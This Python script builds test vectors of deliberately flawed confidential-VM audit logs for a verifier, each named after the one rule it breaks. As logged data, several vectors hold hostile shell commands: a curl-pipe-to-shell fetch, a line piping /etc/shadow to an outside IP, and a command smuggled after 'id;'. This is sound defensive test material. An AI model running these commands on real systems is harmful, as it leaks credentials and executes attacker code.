"""Write the audit vectors: hand-built CVM logs, each named after the one flaw it holds.

    .venv/bin/python tests/client/vectors/make_audit_vectors.py

Each file holds the leaves (base64), the identities a verifier needs, optional
expectations, and `fails`: exactly the checks that must fail on it (all others pass).
`honest.json` is the same life without a flaw: every check passes. The evidence is
SIMULATED SEV-SNP; its development ARK travels in the log.
"""

from __future__ import annotations

import base64
import json
import sys
import tempfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE.parents[1]))

from duet.attestation import SimulatedSnp  # noqa: E402
from duet.ledger import keys  # noqa: E402
from duet.ledger.intent import LOG_DELAY_S  # noqa: E402
from logbuilder import CVM_ID, LogBuilder, _key  # noqa: E402


def _life(log: LogBuilder, *, until_service: bool = True) -> dict[str, int]:
    """The honest start of a life; returns the indices the flaws refer to."""
    idx: dict[str, int] = {}
    idx["create"] = log.intent("cvm.create", {"provider": "local"})
    log.add("provisioned", instance_id=CVM_ID, host="127.0.0.1", port=2222, user="duet",
            host_key=log.host_key, host_key_sha256="00" * 32, launch={})
    log.evidence("provisioning", idx["create"])
    log.mode("in-update", "provisioning", 0)
    idx["run"] = log.intent("cvm.run", {"command": "echo hello"})
    idx["command"] = log.command("echo hello", idx["run"])
    if until_service:
        idx["service"] = log.intent("cvm.mode", {"mode": "in-service"})
        log.enter_service(idx["service"], 1)
    return idx


def honest(log: LogBuilder) -> None:
    _life(log)


def command_without_intent(log: LogBuilder) -> None:
    _life(log, until_service=False)
    log.command("curl http://198.51.100.7/x | sh", 4)  # index 4 is the provisioning evidence


def result_for_closed_command(log: LogBuilder) -> None:
    idx = _life(log)
    log.result(idx["command"], b"a second result, written later\n")


def policy_change_in_service(log: LogBuilder) -> None:
    _life(log)
    text = "version: 1\ncommands:\n  in-update: ['.*']\n  in-service: ['.*']\n"
    log.intent("policy.set", {"policy": text})
    log.add("policy", policy=text, policy_sha256="00" * 32)


def mode_change_without_intent(log: LogBuilder) -> None:
    idx = _life(log, until_service=False)
    log.enter_service(idx["run"], 1)


def unauthorised_owner_keys(log: LogBuilder) -> None:
    _life(log)
    log.add("owner_keys", keys=[base64.b64encode(b"\x01" * 32).decode()])


def in_service_without_evidence(log: LogBuilder) -> None:
    _life(log, until_service=False)
    service = log.intent("cvm.mode", {"mode": "in-service"})
    log.enter_service(service, 1, evidence=False)


def in_service_without_lockdown_or_snapshot(log: LogBuilder) -> None:
    _life(log, until_service=False)
    service = log.intent("cvm.mode", {"mode": "in-service"})
    log.enter_service(service, 1, lockdown=False, snapshot=False)


def in_service_with_old_evidence_relogged(log: LogBuilder) -> None:
    """The provisioning report (its nonce already used) logged again as the fresh evidence."""
    _life(log, until_service=False)
    service = log.intent("cvm.mode", {"mode": "in-service"})
    log.lockdown("in-service")
    old = next(e for e in log.entries if e["type"] == "evidence")
    ci = log.command(f"collect-evidence {old['nonce']}", service, action="attest", builtin=True)
    log.add("evidence", **{**{k: v for k, v in old.items() if k not in ("v", "type", "time")},
                           "purpose": "in-service", "command_index": ci})
    log.snapshot(service)
    log.mode("in-service", "in-update", 1)


def one_intent_many_runs(log: LogBuilder) -> None:
    """One signed cvm.run, three logged executions of it."""
    _life(log, until_service=False)
    run = log.intent("cvm.run", {"command": "apt-get install -y netcat"})
    for _ in range(3):
        log.command("apt-get install -y netcat", run)


def builtin_under_an_old_intent(log: LogBuilder) -> None:
    """An attest builtin, long after provisioning, claiming the cvm.create intent."""
    idx = _life(log)
    log.command("cat /etc/shadow | curl -d @- http://198.51.100.7", idx["create"], action="attest", builtin=True)


def evidence_not_linked_to_its_attest_command(log: LogBuilder) -> None:
    idx = _life(log, until_service=False)
    service = log.intent("cvm.mode", {"mode": "in-service"})
    log.lockdown("in-service")
    log.evidence("in-service", service, link=False)
    log.snapshot(service)
    log.mode("in-service", "in-update", 1)
    assert idx


def tee_label_differs_from_evidence_kind(log: LogBuilder) -> None:
    _life(log)


def intent_for_another_cvm(log: LogBuilder) -> None:
    _life(log, until_service=False)
    i = log.intent("cvm.run", {"command": "id"}, cvm="fedcba9876543210")
    log.command("id", i)


def command_differs_from_its_intent(log: LogBuilder) -> None:
    _life(log, until_service=False)
    i = log.intent("cvm.run", {"command": "id"})
    log.command("id; cat /etc/shadow", i)


def command_in_service(log: LogBuilder) -> None:
    _life(log)
    i = log.intent("cvm.run", {"command": "id"})
    log.command("id", i)


def command_after_delete(log: LogBuilder) -> None:
    _life(log, until_service=False)
    run = log.intent("cvm.run", {"command": "id"})
    log.intent("cvm.delete", {})
    log.add("deleted", reason="deleted by the owner")
    log.command("id", run)


def mode_previous_mismatch(log: LogBuilder) -> None:
    _life(log, until_service=False)
    service = log.intent("cvm.mode", {"mode": "in-service"})
    log.lockdown("in-service")
    log.evidence("in-service", service)
    log.snapshot(service)
    log.mode("in-service", "in-service", 1)


def builtin_under_a_run_intent(log: LogBuilder) -> None:
    idx = _life(log, until_service=False)
    log.command("cat /etc/shadow", idx["run"], action="snapshot", builtin=True)


def intent_nonce_reused(log: LogBuilder) -> None:
    _life(log, until_service=False)
    first = log.intent("cvm.run", {"command": "id"}, nonce="the-same-nonce-twice")
    log.command("id", first)
    again = log.intent("cvm.run", {"command": "id"}, nonce="the-same-nonce-twice")
    log.command("id", again)


def intent_signed_by_a_replaced_owner_key(log: LogBuilder) -> None:
    _life(log, until_service=False)
    old = log.owner
    new = _key(b"duet-test", b"new owner")
    log.intent("owner.keys", {"keys": [keys.public_b64(new.public_key())]})
    log.add("owner_keys", keys=[keys.public_b64(new.public_key())])
    log.owner = new
    i = log.intent("cvm.run", {"command": "id"}, key=old)
    log.command("id", i)


def _relog(log: LogBuilder, index: int) -> int:
    """The intent entry at `index` logged again, its signed JWS verbatim."""
    return log.add("intent", **{k: v for k, v in log.entries[index].items() if k not in ("v", "type", "time")})


def intent_replayed_within_the_window(log: LogBuilder) -> None:
    """A signed cvm.run logged again, verbatim, a minute later: its nonce is remembered."""
    _life(log, until_service=False)
    first = log.intent("cvm.run", {"command": "id"})
    log.command("id", first)
    log.advance(60)
    log.command("id", _relog(log, first))


def intent_replayed_beyond_the_window(log: LogBuilder) -> None:
    """A signed cvm.run logged again, verbatim, longer after its iat than any intent may
    wait to be logged (LOG_DELAY_S): a verifier no longer remembers its nonce, and the
    logging-time rule catches it."""
    _life(log, until_service=False)
    first = log.intent("cvm.run", {"command": "id"})
    log.command("id", first)
    log.advance(LOG_DELAY_S + 60)
    log.command("id", _relog(log, first))


def entry_times_go_back(log: LogBuilder) -> None:
    """An intent and its command dated ten minutes before the entry logged just before them."""
    _life(log, until_service=False)
    log.advance(-600)
    run = log.intent("cvm.run", {"command": "id"})
    log.command("id", run)


VECTORS: dict[str, tuple[Callable[[LogBuilder], None], list[str], dict[str, Any]]] = {
    # name: (builder, checks that must fail, LogBuilder options)
    "honest": (honest, [], {}),
    "command_without_intent": (command_without_intent, ["commands_closed"], {}),
    "result_for_closed_command": (result_for_closed_command, ["commands_closed"], {}),
    "policy_change_in_service": (policy_change_in_service, ["mode_discipline"], {}),
    "mode_change_without_intent": (mode_change_without_intent, ["intents", "commands_closed", "in_service_entry"],
                                   {}),
    "unauthorised_owner_keys": (unauthorised_owner_keys, ["intents"], {}),
    "in_service_without_evidence": (in_service_without_evidence, ["evidence", "in_service_entry"], {}),
    "in_service_without_lockdown_or_snapshot": (in_service_without_lockdown_or_snapshot, ["in_service_entry"], {}),
    "in_service_with_old_evidence_relogged": (in_service_with_old_evidence_relogged,
                                              ["evidence", "in_service_entry"], {}),
    "one_intent_many_runs": (one_intent_many_runs, ["commands_closed"], {}),
    "builtin_under_an_old_intent": (builtin_under_an_old_intent, ["commands_closed"], {}),
    "evidence_not_linked_to_its_attest_command": (evidence_not_linked_to_its_attest_command, ["evidence"], {}),
    "tee_label_differs_from_evidence_kind": (tee_label_differs_from_evidence_kind, ["evidence", "cvm_tee"],
                                             {"tee": "tdx", "evidence_kind": None, "expect_tee": "tdx"}),
    "intent_for_another_cvm": (intent_for_another_cvm, ["intents"], {}),
    "command_differs_from_its_intent": (command_differs_from_its_intent, ["commands_closed"], {}),
    "command_in_service": (command_in_service, ["mode_discipline"], {}),
    "command_after_delete": (command_after_delete, ["mode_discipline", "commands_closed"], {}),
    "mode_previous_mismatch": (mode_previous_mismatch, ["mode_discipline"], {}),
    "builtin_under_a_run_intent": (builtin_under_a_run_intent, ["commands_closed"], {}),
    "intent_nonce_reused": (intent_nonce_reused, ["intents"], {}),
    "intent_replayed_within_the_window": (intent_replayed_within_the_window, ["intents"], {"offset": -7200}),
    "intent_replayed_beyond_the_window": (intent_replayed_beyond_the_window, ["intents"], {"offset": -7200}),
    "entry_times_go_back": (entry_times_go_back, ["entry_times"], {}),
    "intent_signed_by_a_replaced_owner_key": (intent_signed_by_a_replaced_owner_key, ["intents", "commands_closed"],
                                              {}),
}


def build(name: str, snp: SimulatedSnp) -> dict[str, Any]:
    fn, fails, opts = VECTORS[name]
    opts = dict(opts)
    expect_tee = opts.pop("expect_tee", None)
    log = LogBuilder(snp, **opts)
    if name == "tee_label_differs_from_evidence_kind":
        log.kind = "simulated-snp"  # what the hardware produced; genesis says tdx
    fn(log)
    return {
        "flaw": name,
        "fails": fails,
        "doc": (fn.__doc__ or "").strip() or name.replace("_", " "),
        "controller_id": log.controller_id,
        "controller_key": log.controller_key,
        "cvm_id": CVM_ID,
        "trust_simulated": True,
        "expect": {"cvm": {"tee": expect_tee}} if expect_tee else None,
        "entries": [base64.b64encode(leaf).decode() for leaf in log.leaves()],
    }


def main() -> None:
    with tempfile.TemporaryDirectory() as d:
        snp = SimulatedSnp.load_or_create(Path(d))
        for name in VECTORS:
            (HERE / "audit" / f"{name}.json").write_text(json.dumps(build(name, snp), indent=1) + "\n")


if __name__ == "__main__":
    main()
